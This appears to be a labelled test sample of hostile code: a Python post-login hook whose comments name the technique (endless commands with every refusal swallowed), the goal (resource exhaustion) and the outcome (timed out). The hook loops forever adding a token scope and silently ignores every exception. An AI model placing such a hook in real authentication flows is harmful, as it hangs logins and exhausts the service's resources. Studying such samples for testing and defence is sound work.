# origin: contract 7
# technique: commands without an end, and every refusal swallowed
# goal: resource
# outcome: TIMED_OUT
def on_execute_post_login(event, api):
    while True:
        try:
            api.access_token.add_scope("a")
        except Exception:
            pass
